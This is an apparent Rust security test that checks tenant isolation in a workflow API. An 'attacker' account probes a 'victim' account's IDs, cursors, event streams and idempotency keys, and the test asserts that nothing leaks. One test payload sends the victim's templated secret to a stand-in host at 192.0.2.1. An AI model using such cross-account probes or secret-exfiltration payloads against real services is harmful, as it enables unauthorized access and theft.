//! S1: whatever names another account's things finds nothing of them, and changes nothing.

use std::time::Duration;

use fault_suite::failure::Failure;
use reqwest::Method;
use serde_json::{Value, json};
use testkit::{Answer, Api, workflows};
use tokio::time::timeout;

use crate::calls;
use crate::document::{self, Operation};
use crate::estate::{Estate, differences};
use crate::product::Product;
use crate::row::Row;
use crate::stage::Stage;

/// Names that callers choose for themselves: the same one is another thing in another account.
const OWN_NAMES: [&str; 2] = ["customer_id", "name"];
/// How long a tail of events is listened to.
const LISTENING: Duration = Duration::from_secs(3);

pub(super) async fn play(stage: &Stage, product: &Product, row: &mut Row) -> Result<(), Failure> {
    let operations = document::read(&product.gateway(0, "")?).await?;
    let mark = format!("s1-{:08x}", stage.seed);
    let victim = Estate::make(product, &format!("{mark}-victim")).await?;
    let attacker = Estate::make(product, &format!("{mark}-attacker")).await?;
    let before = victim.seen(product, &operations).await?;
    row.must(before.values().any(|seen| seen.to_string().contains(&victim.mark)), || {
        "the victim's own reads show nothing, so nothing is proven".to_owned()
    });
    let mut game = Game { product, row, victim: &victim, attacker: &attacker, turn: 0 };
    stage.say("ids, filters, cursors and bodies");
    for operation in operations.iter().filter(|operation| operation.level.is_some() && !operation.is_endless)
    {
        if operation.names_something() {
            game.ids(operation).await?;
        }
        if operation.reads() {
            game.filters(operation).await?;
            game.cursor(operation).await?;
        }
    }
    game.bodies().await?;
    let after = victim.seen(product, &operations).await?;
    for difference in differences(&before, &after) {
        game.row.problem(format!("something of another account has changed: {difference}"));
    }
    stage.say("tails and idempotency keys");
    // Here the other account does something, too.
    for operation in operations.iter().filter(|operation| operation.is_endless) {
        game.tail(operation).await?;
    }
    game.idempotency_keys().await?;
    row.note(format!("{} reads of the other account unchanged", before.len()));
    Ok(())
}

struct Game<'a> {
    product: &'a Product,
    row: &'a mut Row,
    victim: &'a Estate,
    attacker: &'a Estate,
    turn: usize,
}

impl Game<'_> {
    fn api(&mut self) -> Result<Api, Failure> {
        self.turn += 1;
        let attacker = self.attacker;
        let credential = if self.turn.is_multiple_of(2) { attacker.account.full() } else { &attacker.token };
        self.product.gateway(self.turn, credential)
    }

    /// An answer to the attacker says nothing of the victim.
    fn tells_nothing(&mut self, what: &str, answer: &Answer, bounced: bool) {
        let tells = answer.text.contains(&self.victim.mark) || answer.status >= 500;
        self.row.tried(bounced && !tells, || {
            format!("{what} is answered with {}: {}", answer.status, answer.text)
        });
    }

    /// The operation with the victim's ids in its path and query.
    async fn ids(&mut self, operation: &Operation) -> Result<(), Failure> {
        let path = operation.at(|name| self.victim.id(name).filter(|_| operation.needs(name)));
        let api = self.api()?;
        let mut request = api.request(operation.method.clone(), &path);
        if let Some(body) = &operation.body {
            request = if body.media == "application/json" {
                request.json(&if body.example.is_null() { json!({}) } else { body.example.clone() })
            } else {
                request.header("content-type", &body.media).body("of another account")
            };
        }
        let answer = calls::send(&api, request).await?;
        let mut parameters = operation.parameters.iter().filter(|parameter| parameter.in_path);
        let all_own = parameters.all(|parameter| OWN_NAMES.contains(&parameter.name.as_str()));
        // What the attacker may call like the victim does is made, or not found, among the attacker's own things.
        let made_own = all_own && !operation.reads() && matches!(answer.status, 200 | 201);
        // The path itself says the name, so an answer may repeat that.
        let mut said = answer.clone();
        if made_own {
            self.victim.ids.values().for_each(|id| said.text = said.text.replace(id, ""));
        }
        self.tells_nothing(&format!("{} {path}", operation.method), &said, answer.status == 404 || made_own);
        Ok(())
    }

    /// A read filtered by the victim's ids.
    async fn filters(&mut self, operation: &Operation) -> Result<(), Failure> {
        let filters =
            operation.parameters.iter().filter(|parameter| !parameter.in_path && !parameter.required);
        let ids = &self.victim.ids;
        for filter in
            filters.filter(|filter| filter.name != "channel" && ids.contains_key(filter.name.as_str()))
        {
            let path = operation.at(|name| {
                let of = if name == filter.name { self.victim } else { self.attacker };
                of.id(name).filter(|_| name == filter.name || operation.needs(name))
            });
            let api = self.api()?;
            let answer = calls::get(&api, &path).await?;
            let empty = answer.body.get("data").and_then(Value::as_array).is_some_and(Vec::is_empty);
            self.tells_nothing(&format!("GET {path}"), &answer, answer.status == 404 || empty);
        }
        Ok(())
    }

    /// A list behind a cursor that the victim was given.
    async fn cursor(&mut self, operation: &Operation) -> Result<(), Failure> {
        if !operation.takes("cursor") {
            return Ok(());
        }
        let of = |estate: &Estate, cursor: Option<String>| {
            operation.at(|name| match name {
                "limit" => Some("1".to_owned()),
                "cursor" => cursor.clone(),
                _ => estate.id(name).filter(|_| operation.needs(name)),
            })
        };
        let owner = self.product.gateway(self.turn, self.victim.account.full())?;
        let first = calls::get(&owner, &of(self.victim, None)).await?;
        let cursor = first.body.pointer("/pagination/next_cursor").and_then(Value::as_str);
        let Some(cursor) = cursor.map(str::to_owned) else { return Ok(()) };
        let path = of(self.attacker, Some(cursor));
        let api = self.api()?;
        let answer = calls::get(&api, &path).await?;
        self.tells_nothing(&format!("GET {path}"), &answer, matches!(answer.status, 200 | 400 | 404));
        Ok(())
    }

    /// What is told of the victim while the attacker listens for it.
    async fn tail(&mut self, operation: &Operation) -> Result<(), Failure> {
        let owner = self.product.gateway(self.turn, self.victim.account.full())?;
        for filter in ["", "conversation_id", "customer_id", "workflow_id"] {
            let path = operation.at(|name| self.victim.id(name).filter(|_| name == filter));
            let api = self.api()?;
            let request = api.request(Method::GET, &path).send().await;
            let mut response = request.map_err(|error| Failure::broken(format!("{path}: {error}")))?;
            calls::say(&owner, "customer-listened", &format!("hello one {}", self.victim.mark)).await?;
            let mut heard = String::new();
            let listening = async {
                while let Ok(Some(bytes)) = response.chunk().await {
                    heard.push_str(&String::from_utf8_lossy(&bytes));
                }
            };
            timeout(LISTENING, listening).await.ok();
            let told = heard.contains(&self.victim.mark) || heard.contains("customer-listened");
            self.row.tried(!told, || format!("GET {path} tells of another account: {heard}"));
        }
        Ok(())
    }

    /// Bodies that name what the victim has.
    async fn bodies(&mut self) -> Result<(), Failure> {
        let api = self.api()?;
        let workflow = self.victim.id("workflow_id").unwrap_or_default();
        let message =
            json!({"customer_id": "x", "channel": "web", "message": "hello one", "workflow_id": workflow});
        let answer = calls::json(&api, Method::POST, "/v1/messages", &message).await?;
        self.tells_nothing("a message to another account's workflow", &answer, answer.status == 404);
        // The customer and the words that start the victim's workflow start the attacker's own, or nothing.
        let customer = self.victim.id("customer_id").unwrap_or_default();
        let told = calls::say(&api, &customer, "hello one").await?;
        let took =
            told.pointer("/execution/workflow_id").and_then(Value::as_str).unwrap_or_default().to_owned();
        self.row.tried(took != workflow, || {
            format!("a customer's words start another account's workflow: {told}")
        });
        let base = self.victim.id("knowledge_base_id").unwrap_or_default();
        let secret = self.victim.id("name").unwrap_or_default();
        let flow = json!({
            "name": "asks another's", "description": "", "channel": "web",
            "configuration": {"trigger": {"type": "message", "keywords": ["steal"]}, "nodes": [
                {"id": "ask", "type": "ai_response", "knowledge_base": base, "fallback": "call", "next": "call"},
                {"id": "call", "type": "http_request", "method": "GET", "url": "http://192.0.2.1/",
                 "headers": {"x-secret": format!("{{{{ secrets.{secret} }}}}")}, "on_error": "tell", "next": "tell"},
                {"id": "tell", "type": "message", "content": "{{ steps | tojson }} {{ steps.ask.response }}"}]}
        });
        let id = calls::run(&api, &flow).await?;
        let told = calls::say(&api, "thief", "steal: when does the shop open?").await?.to_string();
        self.row.tried(
            !told.contains("opens at nine") && !told.contains(&format!("\"{}\"", self.victim.mark)),
            || format!("a workflow reads another account's documents or secrets: {told}"),
        );
        let deleted = calls::send(&api, api.request(Method::DELETE, &format!("/v1/workflows/{id}"))).await?;
        self.row
            .must(deleted.status == 200, || format!("the own workflow cannot be deleted: {}", deleted.text));
        Ok(())
    }

    /// The victim's `Idempotency-Key` is just another key here.
    async fn idempotency_keys(&mut self) -> Result<(), Failure> {
        let owner = self.product.gateway(self.turn, self.victim.account.full())?;
        let workflow = workflows::greet(&format!("kept for {}", self.victim.mark), "kept");
        let own = workflows::greet("own", "own");
        let once = |api: Api, body: Value| async move {
            let request =
                api.request(Method::POST, "/v1/workflows").header("idempotency-key", "the-same-key");
            calls::send(&api, request.json(&body)).await
        };
        let first = once(owner.clone(), workflow.clone()).await?;
        let attacker = self.api()?;
        // Another body: refused only if the key were shared.
        let other = once(attacker.clone(), own).await?;
        self.tells_nothing("another account's Idempotency-Key", &other, other.status == 201);
        // The victim still has its answer.
        let again = once(owner.clone(), workflow).await?;
        self.row.tried(again.status == 201 && again.text == first.text, || {
            format!("an answer is another one after someone else used the key: {}", again.text)
        });
        for (api, answer) in [(&owner, &first), (&attacker, &other)] {
            let id = answer.body.pointer("/data/id").and_then(Value::as_str).unwrap_or_default();
            calls::send(api, api.request(Method::DELETE, &format!("/v1/workflows/{id}"))).await?;
        }
        Ok(())
    }
}
